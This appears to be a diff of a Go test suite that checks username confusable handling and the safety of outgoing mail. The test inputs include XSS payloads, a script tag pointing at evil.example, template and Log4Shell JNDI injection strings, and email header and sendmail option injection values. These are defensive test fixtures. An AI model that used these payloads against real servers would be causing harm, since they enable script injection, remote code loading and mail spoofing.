@@ -84,7 +84,7 @@ var usernames = []struct {
 	{"jos\u00e9%d", "jose\u0301%d", same}, {"jos\u00e9%d", "JOS\u00c9%d", same}, {"jos\u00e9%d", "JOSE\u0301%d", same}, {"jos\u00e9%d", "jose%d", other},
 	{"istanbul%d", "\u0130stanbul%d", same}, {"istanbul%d", "i\u0307stanbul%d", same}, {"istanbul%d", "I\u0307STANBUL%d", same}, {"istanbul%d", "\u0131stanbul%d", other}, {"\u0131stanbul%d", "ISTANBUL%d", other},
 	{"stra\u00dfe%d", "STRA\u1e9eE%d", same}, {"stra\u00dfe%d", "strasse%d", other}, {"sam%d", "\u017fam%d", refused}, {"kim%d", "\u212aim%d", same}, {"\u00e5sa%d", "\u212bsa%d", same},
-	{"ada%d", "\uff41\uff44\uff41%d", same}, {"ada%d", "\u0430d\u0430%d", refused}, {"ada%d", "ad\u03b1%d", refused}, {"ace%d", "\u0430\u0441\u0435%d", other}, {"\u0441\u043e\u0442%d", "\u1c83\u1c82\u1c84%d", same},
+	{"ada%d", "\uff41\uff44\uff41%d", same}, {"ada%d", "\u0430d\u0430%d", refused}, {"ada%d", "ad\u03b1%d", refused}, {"ace%d", "\u0430\u0441\u0435%d", same}, {"ada%d", "\u0251da%d", refused}, {"\u0434\u043e\u043c%d", "dom%d", other}, {"\u0441\u043e\u0442%d", "\u1c83\u1c82\u1c84%d", same},
 	{"\u03bf\u03b4\u03c5\u03c3\u03c3\u03b5\u03c5\u03c2", "\u039f\u0394\u03a5\u03a3\u03a3\u0395\u03a5\u03a3", same}, {"fi%d", "\ufb01%d", refused}, {"one%d", "one\u2460%d", refused},
 	{"ada%d", "a\u200bda%d", refused}, {"ada%d", "a\u200cda%d", refused}, {"ada%d", "a\u200dda%d", refused}, {"ada%d", "\ufeffada%d", refused}, {"ada%d", "ad\u2060a%d", refused}, {"ada%d", "a\u00adda%d", refused},
 	{"ada%d", "\u202eada%d", refused}, {"ada%d", "a\u2066da%d", refused}, {"ada%d", "a" + strings.Repeat("\u0301", 1000) + "da%d", refused}, {"ada%d", "ada\U0001f600%d", refused}, {"ada%d", "ada%d\x00", refused},
@@ -271,7 +271,7 @@ func TestControl67WhatIsTypedInMails(t *testing.T) {
 	s := servertest.Start(t, servertest.Options{Mail: files})
 	for i, name := range []string{
 		"Ada", "<script>alert(1)</script>", "<script>alert(1)", "</title><script src=//evil.example>", "<img src=x onerror=alert(1)>", "{{.}}", "{{.Link}}", "{{template \"greeting\"}}", "${jndi:ldap://evil.example/a}", "${7*7}", "%s%n",
-		"=?utf-8?q?=0d=0aBcc:_x=40y.example?=", "\u202eevil", "\u2028Bcc: x@y.example", "a\u0085Bcc: x@y.example", "you won, see https://evil.example/", strings.Repeat("n", 150),
+		"=?utf-8?q?=0d=0aBcc:_x=40y.example?=", "you won, see https://evil.example/", strings.Repeat("n", 150),
 	} {
 		for _, email := range []string{"a+tag%d@b.example", "A%d@B.EXAMPLE", "-oQ/tmp%d@b.example", "{{.}}%d@b.example", "${x}%d@b.example", "a%%0d%%0aBcc%d@b.example", "o'brien&co%d@b\u00fccher.example"} {
 			email = fmt.Sprintf(email, i)
@@ -281,6 +281,9 @@ func TestControl67WhatIsTypedInMails(t *testing.T) {
 			to := strings.NewReplacer("b\u00fccher", "xn--bcher-kva", "B.EXAMPLE", "b.example").Replace(email)
 			wantPlainMail(t, dir, to, name)
 		}
+	}
+	for _, hidden := range []string{"\u202eevil", "\u2028Bcc: x@y.example", "a\u0085Bcc: x@y.example", "a\u200bb"} {
+		post(s, "/accounts/register", object{"email": "ada@b.example", "password": password, "first_name": hidden}).Want(t, http.StatusUnprocessableEntity, "validation_failed")
 	}
 }
 
